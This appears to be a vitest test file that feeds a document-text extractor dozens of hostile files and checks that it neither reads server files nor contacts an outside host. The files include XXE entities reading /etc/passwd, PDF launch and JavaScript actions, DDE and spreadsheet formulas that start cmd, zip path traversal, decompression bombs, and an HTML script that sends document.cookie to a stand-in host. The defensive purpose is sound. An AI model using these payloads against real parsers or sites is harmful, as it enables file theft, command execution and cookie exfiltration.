import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  makeOpenDocument,
  makePdf,
  makePresentation,
  makeWord,
  makeWorkbook,
  makeZip,
  wordParagraph,
} from '../../test-harness/make-documents.ts'
import { READING_LIMITS } from './document-text.ts'
import { readApart } from './read-apart.ts'

let outside: Server
const asked: (string | undefined)[] = []
beforeAll(async () => {
  outside = createServer((request, response) => {
    asked.push(request.url)
    response.end('<!ENTITY stolen "stolen">')
  })
  await new Promise<void>((ready) => outside.listen(0, '127.0.0.1', ready))
})
afterAll(() => outside.close().closeAllConnections())

/** A server that no document may have asked. */
const OUT = 'http://outside.example'
const withServer = (text: string) => text.replaceAll(OUT, `http://127.0.0.1:${(outside.address() as AddressInfo).port}`)

const said = wordParagraph('Harmless words')
const sheet = (cells: string) =>
  makeWorkbook({ One: `<row>${cells}<c t="inlineStr"><is><t>Harmless words</t></is></c></row>` })
const html = (inner: string) => withServer(`<!doctype html><html><body><p>Harmless words</p>${inner}</body></html>`)
const rtf = (inner: string) => withServer(`{\\rtf1\\ansi Harmless words\\par ${inner}}`)
const odt = (inner: string) => makeOpenDocument('text', `<text:p>Harmless words</text:p>${inner}`)
const pdf = (...objects: string[]) =>
  Buffer.from(withServer(makePdf(['Harmless words'], { objects }).toString('latin1')), 'latin1')
function replacedPdf(from: string | RegExp, to: string): Buffer {
  const plain = makePdf(['Harmless words']).toString('latin1')
  expect(plain).toMatch(from)
  return Buffer.from(withServer(plain.replace(from, to)), 'latin1')
}
const word = (before: string, body = said) => makeWord(withServer(body), { before: withServer(before) })
const stream = (dictionary: string, bytes: string) =>
  `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`

/** Each document that was made to harm: to carry something out, to read what it may not, to run, or to take all there is. */
const DOCUMENTS: readonly [name: string, make: () => Buffer | string][] = [
  [
    'a PDF that runs a script when it is opened',
    () => replacedPdf('/Type /Catalog', `/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>`),
  ],
  [
    'a PDF that starts a program',
    () => replacedPdf('/Type /Catalog', `/Type /Catalog /OpenAction << /S /Launch /F (/bin/sh) >>`),
  ],
  [
    'a PDF that calls home',
    () => replacedPdf('/Type /Catalog', `/Type /Catalog /OpenAction << /S /URI /URI (${OUT}/) >>`),
  ],
  [
    'a PDF that sends a form',
    () => replacedPdf('/Type /Catalog', `/Type /Catalog /OpenAction << /S /SubmitForm /F (${OUT}/) >>`),
  ],
  ['a PDF whose page is a file elsewhere', () => replacedPdf('/Length', `/F (${OUT}/) /FFilter /FlateDecode /Length`)],
  ['a PDF that shows a file of the server', () => pdf(stream('/F (/etc/passwd)', 'x'))],
  ['a PDF with an attached program', () => pdf(stream('/Type /EmbeddedFile', 'MZ'))],
  [
    'a PDF with a form of XML that asks for a file',
    () => pdf(stream('/Type /XFA', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')),
  ],
  ['a PDF whose pages lead in a circle', () => replacedPdf('/Kids [4 0 R]', '/Kids [2 0 R]')],
  ['a PDF that says it has two billion pages', () => replacedPdf('/Count 1', '/Count 2000000000')],
  ['a PDF whose table leads back to itself', () => replacedPdf('trailer\n<<', 'trailer\n<< /Prev 9 /XRefStm 9')],
  ['a PDF whose stream is longer than it', () => replacedPdf(/\/Length \d+/, '/Length 2147483647')],
  ['a PDF whose page has no size', () => replacedPdf('[0 0 612 792]', '[0 0 1e308 -1e308]')],
  ['a PDF of a hundred thousand brackets', () => pdf('['.repeat(100_000))],
  ['a PDF of a hundred thousand dictionaries in each other', () => pdf('<< /a '.repeat(100_000))],
  [
    'a PDF that unpacks to far more',
    () => pdf(stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(5_000_000)).toString('latin1'))),
  ],
  ['a PDF packed a hundred times over', () => pdf(stream(`/Filter [${'/FlateDecode '.repeat(100)}]`, 'x'))],
  [
    'a document with entities that multiply',
    () => word('<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>', wordParagraph('&b;&b;&b;')),
  ],
  [
    'a document with an entity that is a file',
    () => word('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>', wordParagraph('&a;')),
  ],
  [
    'a document with an entity from elsewhere',
    () => word(`<!DOCTYPE w [<!ENTITY a SYSTEM "${OUT}/">]>`, wordParagraph('&a;')),
  ],
  ['a document whose grammar is elsewhere', () => word(`<!DOCTYPE w SYSTEM "${OUT}/w.dtd">`)],
  ['a document with a parameter from elsewhere', () => word(`<!DOCTYPE w [<!ENTITY % a SYSTEM "${OUT}/"> %a;]>`)],
  ['a document with a style sheet elsewhere', () => word(`<?xml-stylesheet href="${OUT}/x.xsl" type="text/xsl"?>`)],
  [
    'a document with a field that starts a program',
    () =>
      word(
        '',
        `${said}<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`,
      ),
  ],
  [
    'a document with an image elsewhere',
    () => word('', `${said}<w:p><w:r><w:instrText>INCLUDEPICTURE "${OUT}/x.png"</w:instrText></w:r></w:p>`),
  ],
  ['a document that is nested a hundred thousand levels deep', () => makeWord('<w:p>'.repeat(100_000))],
  ['a document that unpacks to far more', () => makeWord(`${said}<w:p>${' '.repeat(20_000_000)}</w:p>`)],
  [
    'an archive that writes beside its folder',
    () => makeZip({ '../../../../etc/cron.d/evil': 'x', '/etc/passwd': 'x' }),
  ],
  [
    'an archive that is called like a document, and leads out of it',
    () =>
      makeZip({
        '[Content_Types].xml': '<Types/>',
        '_rels/.rels':
          '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="../../../../etc/passwd"/></Relationships>',
      }),
  ],
  ['an archive whose names are no names', () => makeZip({ 'a\u0000b': 'x', CON: 'x', '\u202Efdp.exe': 'x' })],
  [
    'an archive of very many entries',
    () => makeZip(Object.fromEntries(Array.from({ length: 21_000 }, (_, index) => [`${index}`, '']))),
  ],
  [
    'an archive that lies about the size of what is in it',
    () => {
      const bytes = makeWord(said)
      bytes.writeUInt32LE(0xffff_fff0, bytes.lastIndexOf('PK\u0001\u0002') + 24)
      return bytes
    },
  ],
  [
    'an archive whose directory begins beyond its end',
    () => {
      const bytes = makeWord(said)
      bytes.writeUInt32LE(0x7fff_ffff, bytes.lastIndexOf('PK\u0005\u0006') + 16)
      return bytes
    },
  ],
  ['a workbook with a formula that starts a program', () => sheet(`<c><f>cmd|'/c calc'!A1</f><v>1</v></c>`)],
  ['a workbook with a formula that calls home', () => sheet(`<c><f>WEBSERVICE("${OUT}/")</f><v>1</v></c>`)],
  ['a workbook with a text that there is none of', () => sheet('<c t="s"><v>4294967295</v></c><c t="s"><v>-1</v></c>')],
  ['a workbook with a cell beyond every column', () => sheet('<c r="ZZZZZZ1"><v>1</v></c>')],
  [
    'a workbook with a row beyond every row',
    () => makeWorkbook({ One: '<row r="4294967295"><c t="inlineStr"><is><t>Harmless words</t></is></c></row>' }),
  ],
  [
    'slides whose title ends the part that it stands in',
    () => makePresentation([{ title: '&lt;/a:t&gt;&lt;script&gt;', points: ['Harmless words'] }]),
  ],
  [
    'an OpenDocument table whose cells repeat a billion times',
    () =>
      makeOpenDocument(
        'spreadsheet',
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>Harmless words</text:p></table:table-cell></table:table-row></table:table>',
      ),
  ],
  ['an OpenDocument text of a billion blanks', () => odt('<text:p>a<text:s text:c="1000000000"/>b</text:p>')],
  [
    'an OpenDocument text with a macro',
    () => odt(`<office:scripts><office:event-listeners href="${OUT}/"/></office:scripts>`),
  ],
  ['a web page with a script', () => html(`<script>fetch('${OUT}/' + document.cookie)</script>`)],
  [
    'a web page with an image that counts its readers',
    () => html(`<img src="${OUT}/pixel.gif" onerror="fetch('${OUT}/')">`),
  ],
  [
    'a web page that leads elsewhere',
    () => html(`<meta http-equiv="refresh" content="0;url=${OUT}/"><base href="${OUT}/">`),
  ],
  [
    'a web page with frames',
    () => html(`<iframe src="${OUT}/"></iframe><object data="file:///etc/passwd"></object><embed src="${OUT}/">`),
  ],
  [
    'a web page with a drawing that runs',
    () => html(`<svg onload="fetch('${OUT}/')"><script>1</script><use href="${OUT}/#a"/></svg>`),
  ],
  [
    'a web page with a style from elsewhere',
    () => html(`<style>@import url(${OUT}/a.css); p { background: url(${OUT}/b) }</style>`),
  ],
  ['a web page whose comment never ends', () => html('<!-- <p>')],
  ['a web page that is nested a hundred thousand levels deep', () => html('<div>'.repeat(100_000))],
  [
    'a web page of a million attributes',
    () => html(`<p ${Array.from({ length: 1_000_000 }, (_, index) => `a${index}=1`).join(' ')}>x</p>`),
  ],
  ['rich text with an object', () => rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}}')],
  ['rich text with a template elsewhere', () => rtf(`{\\*\\template ${OUT}/x.dot}`)],
  ['rich text that says two billion bytes follow', () => rtf('\\bin2147483647 x')],
  ['rich text of a letter beyond all letters', () => rtf('\\u-99999999999999999999? \\uc2147483647 ')],
  ['rich text that is nested a hundred thousand levels deep', () => rtf('{'.repeat(100_000))],
  ['a text of zeros', () => Buffer.concat([Buffer.from('Harmless words'), Buffer.alloc(1_000_000)])],
  ['a text that turns the direction of reading', () => 'Harmless words \u202Efdp.exe\u202C'],
  [
    'a text in letters that are none',
    () => Buffer.from([0x48, 0x61, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80]),
  ],
  ['a text of half a letter', () => Buffer.from([0xff, 0xfe, 0x48, 0x00, 0x61])],
  ['a text of one line of five million letters', () => `Harmless words ${'x'.repeat(5_000_000)}`],
  ['data that are nested a hundred thousand levels deep', () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
]

/** What would stand in the text of a document that had read what it may not. */
const STOLEN = /root:x:0|stolen/

test.each(DOCUMENTS)('%s ends as a failure of that document, or as its words alone', async (_, make) => {
  const outcome = await readApart(Buffer.from(make()), READING_LIMITS)
  if ('document' in outcome) {
    expect(outcome.document.text.length).toBeLessThanOrEqual(READING_LIMITS.characters)
    expect(outcome.document.text).not.toMatch(STOLEN)
    expect(outcome.document.text).not.toMatch(/document\.cookie|app\.alert/)
  } else expect(outcome.unread).not.toBe('tooLong')
  expect(asked).toEqual([])
})
